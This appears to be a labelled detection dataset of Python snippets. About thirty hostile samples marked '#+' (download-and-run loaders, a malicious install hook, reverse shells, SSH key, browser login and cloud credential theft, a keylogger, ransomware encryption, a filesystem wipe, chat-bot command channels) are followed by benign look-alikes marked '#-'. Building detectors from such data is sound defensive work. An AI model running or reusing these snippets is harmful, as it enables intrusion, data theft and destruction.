#+ subprocess.Popen(["/tmp/.u"])
import urllib.request, subprocess, os
urllib.request.urlretrieve("http://185.10.1.2/u", "/tmp/.u")
os.chmod("/tmp/.u", 0o755)
subprocess.Popen(["/tmp/.u"])
#+ setup(name="x", cmdclass={"install": Post})
from setuptools import setup
from setuptools.command.install import install
class Post(install):
    def run(self):
        install.run(self)
        import requests, os
        requests.post("https://evil.example/c", json=dict(os.environ))
setup(name="x", cmdclass={"install": Post})
#+ pty.spawn("/bin/sh")
import socket, os, pty
s = socket.socket(); s.connect(("10.0.0.1", 4444))
[os.dup2(s.fileno(), i) for i in range(3)]
pty.spawn("/bin/sh")
#+ exec(base64.b64decode("cHJpbnQoMSk="))
import base64
exec(base64.b64decode("cHJpbnQoMSk="))
#+ exec(requests.get("https://pastebin.example/raw/abc").text)
import requests
exec(requests.get("https://pastebin.example/raw/abc").text)
#+ requests.post("http://c2.example/k", files={"f": open(p, "rb
import os, requests
p = os.path.expanduser("~/.ssh/id_rsa")
requests.post("http://c2.example/k", files={"f": open(p, "rb")})
#+ subprocess.call([sys.executable, "-c", __import__("urllib.re
import subprocess, sys
subprocess.call([sys.executable, "-c", __import__("urllib.request").request.urlopen("http://e.example/x").read().decode()])
#+ subprocess.Popen(["powershell", "-WindowStyle", "Hidden", "-
import subprocess
subprocess.Popen(["powershell", "-WindowStyle", "Hidden", "-Command", "iwr http://e.example/a.exe -OutFile a.exe; ./a.exe"])
#+ keyboard.Listener(on_press=on).start()
from pynput import keyboard
import requests
log = []
def on(k):
    log.append(str(k))
    if len(log) > 20:
        requests.post("http://e.example/l", data="".join(log)); log.clear()
keyboard.Listener(on_press=on).start()
#+ requests.post("http://e.example/u", files={"f": open(f, "rb"
import glob, os, requests
for f in glob.glob(os.path.expanduser("~/.config/google-chrome/Default/Login Data")):
    requests.post("http://e.example/u", files={"f": open(f, "rb")})
#+ ctypes.windll.kernel32.CreateThread(0, 0, ptr, 0, 0, 0)
import ctypes, urllib.request
code = urllib.request.urlopen("http://e.example/s").read()
ptr = ctypes.windll.kernel32.VirtualAlloc(0, len(code), 0x3000, 0x40)
ctypes.windll.kernel32.RtlMoveMemory(ptr, code, len(code))
ctypes.windll.kernel32.CreateThread(0, 0, ptr, 0, 0, 0)
#+ f.write("\ncurl -s http://e.example/x | sh\n")
import os
with open(os.path.expanduser("~/.bashrc"), "a") as f:
    f.write("\ncurl -s http://e.example/x | sh\n")
#+ urllib.request.urlopen("http://e.example/?h=" + socket.getho
import socket, getpass, urllib.request
urllib.request.urlopen("http://e.example/?h=" + socket.gethostname() + "&u=" + getpass.getuser())
#+ exec(marshal.loads(zlib.decompress(base64.b64decode(b"eJw=")
import marshal, zlib, base64
exec(marshal.loads(zlib.decompress(base64.b64decode(b"eJw="))))
#+ pass
import os, shutil
for root, d, files in os.walk("/"):
    for f in files:
        try:
            os.remove(os.path.join(root, f))
        except OSError:
            pass
#+ time.sleep(1)
import pyperclip, re, time
while True:
    t = pyperclip.paste()
    if re.match(r"^(1|3|bc1)[a-zA-Z0-9]{25,39}$", t):
        pyperclip.copy("bc1qattackeraddress00000000000000000000")
    time.sleep(1)
#+ winreg.SetValueEx(k, "Updater", 0, winreg.REG_SZ, sys.execut
import winreg, sys
k = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r"Software\Microsoft\Windows\CurrentVersion\Run", 0, winreg.KEY_SET_VALUE)
winreg.SetValueEx(k, "Updater", 0, winreg.REG_SZ, sys.executable + " " + __file__)
#+ requests.post("http://e.example/c", data=r.text)
import requests, json
r = requests.get("http://169.254.169.254/latest/meta-data/iam/security-credentials/role")
requests.post("http://e.example/c", data=r.text)
#+ dns.resolver.resolve(data[i:i+50] + ".e.example", "A")
import dns.resolver, os, base64
data = base64.b32encode(open("/etc/passwd", "rb").read()).decode()
for i in range(0, len(data), 50):
    dns.resolver.resolve(data[i:i+50] + ".e.example", "A")
#+ os.system("curl -fsSL http://e.example/i.sh | bash")
import os
os.system("curl -fsSL http://e.example/i.sh | bash")
#+ subprocess.run(["pip", "install", "--index-url", "http://e.e
import subprocess
subprocess.run(["pip", "install", "--index-url", "http://e.example/simple", "helper"])
#+ client.run(os.environ["T"])
import discord, os
client = discord.Client(intents=discord.Intents.all())
@client.event
async def on_message(m):
    await m.channel.send(os.popen(m.content).read())
client.run(os.environ["T"])
#+ bot.polling()
import telebot, subprocess
bot = telebot.TeleBot("x")
@bot.message_handler(func=lambda m: True)
def h(m):
    bot.reply_to(m, subprocess.getoutput(m.text))
bot.polling()
#+ s.send(subprocess.run(c, shell=True, capture_output=True).st
import socket, subprocess
s = socket.socket()
s.connect(("1.2.3.4", 9001))
while True:
    c = s.recv(1024).decode()
    s.send(subprocess.run(c, shell=True, capture_output=True).stdout)
#+ open(p, "wb").write(b)
import os
from cryptography.fernet import Fernet
k = Fernet.generate_key()
for r, _, fs in os.walk(os.path.expanduser("~")):
    for f in fs:
        p = os.path.join(r, f)
        b = Fernet(k).encrypt(open(p, "rb").read())
        open(p, "wb").write(b)
#+ sys.meta_path.insert(0, L())
import importlib.abc, sys, urllib.request
class L(importlib.abc.MetaPathFinder):
    def find_spec(self, name, path, target=None):
        src = urllib.request.urlopen("http://e.example/" + name).read()
        exec(src)
sys.meta_path.insert(0, L())
#+ import payload
import zipfile, io, requests, sys
z = zipfile.ZipFile(io.BytesIO(requests.get("http://e.example/p.zip").content))
z.extractall("/tmp/p"); sys.path.insert(0, "/tmp/p")
import payload
#+ os.execv(sys.executable, [sys.executable, f.name])
import os, sys, tempfile, urllib.request
f = tempfile.NamedTemporaryFile(delete=False, suffix=".py")
f.write(urllib.request.urlopen("http://e.example/a.py").read()); f.close()
os.execv(sys.executable, [sys.executable, f.name])
#+ time.sleep(30)
import mss, requests, time, io
with mss.mss() as s:
    while True:
        s.shot(output="/tmp/s.png")
        requests.post("http://e.example/s", files={"f": open("/tmp/s.png", "rb")})
        time.sleep(30)
#+ smtplib.SMTP("smtp.example").sendmail("a@x", "b@x", open("/t
import cv2, smtplib
c = cv2.VideoCapture(0)
ok, frame = c.read()
cv2.imwrite("/tmp/a.jpg", frame)
smtplib.SMTP("smtp.example").sendmail("a@x", "b@x", open("/tmp/a.jpg", "rb").read())
#- return json.load(r)["info"]["version"]
import urllib.request, json
def latest(name):
    with urllib.request.urlopen(f"https://pypi.org/pypi/{name}/json") as r:
        return json.load(r)["info"]["version"]
#- return os.path.join(os.path.expanduser("~"), ".config", name
import os
def home_config(name):
    return os.path.join(os.path.expanduser("~"), ".config", name)
#- return s.connect_ex((host, port)) == 0
import socket
def is_open(host, port):
    with socket.socket() as s:
        s.settimeout(1)
        return s.connect_ex((host, port)) == 0
#- setup(name="ok", version="1", packages=find_packages())
from setuptools import setup, find_packages
setup(name="ok", version="1", packages=find_packages())
#- return path
import os, tempfile
def write(data):
    fd, path = tempfile.mkstemp()
    with os.fdopen(fd, "wb") as f:
        f.write(data)
    return path
#- logging.getLogger(__name__).info("running on %s", platform.p
import platform, logging
logging.getLogger(__name__).info("running on %s", platform.platform())
#- print(base64.b64decode("aGVsbG8=").decode())
import base64
print(base64.b64decode("aGVsbG8=").decode())
#- shutil.rmtree(build, ignore_errors=True)
import shutil
def clean(build):
    shutil.rmtree(build, ignore_errors=True)
